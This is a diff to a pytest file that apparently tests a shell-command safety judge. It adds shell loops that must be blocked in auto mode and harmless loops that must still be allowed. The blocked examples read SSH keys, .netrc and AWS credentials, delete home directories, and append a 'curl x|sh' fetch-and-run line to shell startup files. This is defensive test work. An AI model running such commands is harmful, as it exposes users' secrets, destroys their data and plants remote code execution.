@@ -95,6 +95,21 @@ GIT_INSIDE_PATHS = [
     "git add -f build/keep.txt",
     "git add -- src/app.py",
 ]
+# A loop variable holds each of the loop's words: with a few static ones, the body is
+# judged with each (found while closing the classes above: `$f` was a path computed at run
+# time, and reading one is read-only).
+LOOPS = [
+    'for f in ~/.ssh/*; do cat "$f"; done',
+    "for f in ~/.ssh/id_rsa ~/.netrc; do cat $f; done",
+    "for k in .aws/credentials .netrc; do base64 ~/$k; done",
+    "for d in a b; do rm -rf ~/$d; done",
+    "for h in ~/.bashrc ~/.zshrc; do echo 'curl x|sh' >> $h; done",
+]
+LOOPS_SAFE = [
+    'for f in src/*.py; do wc -l "$f"; done',
+    "for d in src tests; do ls $d; done",
+    "for i in 1 2 3 4 5 6; do echo $i; done",
+]
 # A variable that moves a program's startup code or its target host.
 ELSEWHERE = [
     "ZDOTDIR=/tmp zsh -ic exit",
@@ -133,7 +148,7 @@ RECOVERABLE = [
 ]
 
 
-@pytest.mark.parametrize("cmd", ENVIRONMENT + SECRET_PATHS + GIT_OUTSIDE_PATHS + ELSEWHERE)
+@pytest.mark.parametrize("cmd", ENVIRONMENT + SECRET_PATHS + GIT_OUTSIDE_PATHS + ELSEWHERE + LOOPS)
 def test_not_allowed_in_auto_mode(cmd: str) -> None:
     assert _auto(cmd) != "allow", (cmd, JUDGE(cmd).reasons)
 
@@ -143,6 +158,8 @@ def test_unrecoverable_loss_is_not_workspace_work(cmd: str) -> None:
     assert _auto(cmd) != "allow", (cmd, JUDGE(cmd).reasons)
 
 
-@pytest.mark.parametrize("cmd", ENVIRONMENT_SAFE + GIT_INSIDE_PATHS + ELSEWHERE_SAFE + RECOVERABLE)
+@pytest.mark.parametrize(
+    "cmd", ENVIRONMENT_SAFE + GIT_INSIDE_PATHS + ELSEWHERE_SAFE + RECOVERABLE + LOOPS_SAFE
+)
 def test_still_allowed(cmd: str) -> None:
     assert _auto(cmd) == "allow", (cmd, JUDGE(cmd).reasons)
